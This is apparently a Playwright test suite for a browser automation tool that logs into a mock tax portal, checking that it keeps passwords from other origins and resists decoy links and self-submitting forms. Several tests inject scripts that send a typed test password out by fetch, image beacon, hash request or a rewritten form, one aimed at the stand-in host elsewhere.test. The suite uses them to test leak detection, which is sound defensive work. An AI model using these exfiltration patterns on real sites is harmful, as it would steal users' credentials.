import { createHash } from "node:crypto";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { enterOtp, logIn } from "../../automation/flow/log-in.ts";
import { openFromMenu } from "../../automation/flow/menu.ts";
import { Stopped } from "../../automation/flow/outcome.ts";
import { originPolicy } from "../../automation/page/origins.ts";
import { openGate } from "../../automation/page/request-gate.ts";
import { createPortal } from "../../mock-portal/portal.ts";
import { expect, test } from "../test.ts";
import { openRunOn } from "./at-form.ts";

/** What stopped `act`, or undefined. */
async function stopOf(act: Promise<unknown>) {
	try {
		await act;
		return undefined;
	} catch (error) {
		if (!(error instanceof Stopped)) throw error;
		return error.stop;
	}
}

/** Another origin on this machine, which remembers what it is sent. */
async function anotherOrigin() {
	const received: string[] = [];
	const server = createServer((request, response) => {
		let body = "";
		request.on("data", (chunk) => {
			body += chunk;
		});
		request.on("end", () => {
			received.push(`${request.method} ${request.url} ${body}`);
			response.setHeader("Access-Control-Allow-Origin", "*").end("ok");
		});
	});
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	const { port } = server.address() as AddressInfo;
	return { url: `http://127.0.0.1:${port}`, received, close: () => new Promise((resolve) => server.close(resolve)) };
}

test.describe("A portal that leads to another origin", () => {
	test.use({ expectedErrors: [/request to another host/] });

	test("another origin gets no password, and the run asks whether that origin is allowed", async ({ page, portal, taxpayer }) => {
		const other = await createPortal({ taxpayers: [taxpayer] });
		await page.route(`${portal.url}/`, (route) => route.fulfill({ status: 302, headers: { Location: `${other.url}/` } }));
		const { run, login, signal } = await openRunOn(page, portal, taxpayer);
		const stop = await stopOf(logIn(run, login, signal));
		expect(stop).toMatchObject({ outcome: "human needed", actor: "caller", requiredAction: expect.stringContaining(`--allow-origin ${other.url}`) });
		expect(other.control.journal().map(({ event }) => event)).not.toContain("logged in");
		await other.close();
	});
});

test("A login form that posts to another origin gets no password", async ({ page, portal, taxpayer }) => {
	await page.addInitScript(`addEventListener("DOMContentLoaded", () => { for (const form of document.forms) form.action = "https://elsewhere.test/login"; });`);
	const { run, login, signal } = await openRunOn(page, portal, taxpayer);
	expect(await stopOf(logIn(run, login, signal))).toMatchObject({
		outcome: "human needed",
		what: expect.stringContaining("The form posts to https://elsewhere.test"),
	});
	expect(await page.locator("input[type=password]").first().inputValue()).toBe("");
});

test.describe("Once a secret has been typed", () => {
	test.use({ expectedErrors: [/.*/] });

	for (const { what, act } of [
		{ what: "a script's request with it", act: (url: string) => `fetch("${url}/log", { method: "post", body: "Mock#Login1" })` },
		{ what: "an image's address with it", act: (url: string) => `new Image().src = "${url}/log.gif?p=" + encodeURIComponent("Mock#Login1")` },
		{ what: "a request with its hash", act: (url: string) => `fetch("${url}/log?sha=" + HASH)` },
		{
			what: "a form",
			act: (url: string) =>
				`document.body.innerHTML = '<form method="post" action="${url}/login"><input name="hash" value="x"></form>'; document.forms[0].submit()`,
		},
	]) {
		test(`${what} does not leave for another origin`, async ({ page }) => {
			const [named, other] = [await anotherOrigin(), await anotherOrigin()];
			const gate = await openGate(page, originPolicy(named.url));
			await page.goto(named.url);
			gate.guard("Mock#Login1");
			const hash = createHash("sha256").update("Mock#Login1").digest("hex");
			await page.evaluate((code) => void new Function(code)(), act(other.url).replace("HASH", `"${hash}"`));
			await expect.poll(() => gate.leak()?.stop.what).toContain(other.url);
			expect(other.received).toEqual([]);
			await Promise.all([named.close(), other.close()]);
		});
	}
});

test("A link Create API User that leads elsewhere is not clicked; the real one is found in the closed menu", async ({
	loggedInPage: page,
	portal,
	taxpayer,
}) => {
	const { run } = await openRunOn(page, portal, taxpayer);
	await run.open("/Home/MainMenu");
	await run.arrive((seen) => (seen.place === "main menu" ? seen : undefined));
	await page.evaluate(() => document.querySelector("h4")?.insertAdjacentHTML("beforebegin", '<a href="/Others/FAQs">Create API User</a>'));
	await openFromMenu(run, "createApiUser");
	expect(await run.arrive((seen) => (seen.place === "OTP step" ? seen.sight.path : undefined))).toBe("/APIUserAccount/CreateAPIUser");
});

test("A menu behind a button with three bars is opened", async ({ loggedInPage: page, portal, taxpayer }) => {
	const { run } = await openRunOn(page, portal, taxpayer);
	await run.open("/Home/MainMenu");
	await run.arrive((seen) => (seen.place === "main menu" ? seen : undefined));
	await page.evaluate(() => {
		const menu = document.querySelector<HTMLElement>(".side-menu");
		if (!menu) throw new Error("no menu");
		menu.style.display = "none";
		const bars = Object.assign(document.createElement("button"), {
			textContent: "☰",
			ariaExpanded: "false",
			onclick: () => menu.style.removeProperty("display"),
		});
		document.body.prepend(bars);
	});
	await openFromMenu(run, "createApiUser");
	expect(run.resolved.at(-1)).toMatchObject({ target: "createApiUser", by: ["role", "href"] });
});

test("Verify OTP is not clicked after an OTP field that sends its form by itself", async ({ loggedInPage: page, portal, taxpayer }) => {
	const { run, login, signal } = await openRunOn(page, portal, taxpayer);
	await run.open("/APIUserAccount/CreateAPIUser");
	run.setMember(true);
	const step = await run.arrive((seen) => (seen.place === "OTP step" ? seen : undefined));
	await page.evaluate(() => {
		const field = document.querySelector<HTMLInputElement>("#txtOtp");
		field?.addEventListener("input", () => field.value.length === 6 && field.form?.submit());
	});
	const arrival = await enterOtp(run, { ...login, gstin: taxpayer.gstin }, "create API user", step, signal);
	expect(arrival.place).toBe("registration form");
	expect(portal.control.journal().filter(({ event }) => event === "OTP verified")).toHaveLength(1);
});
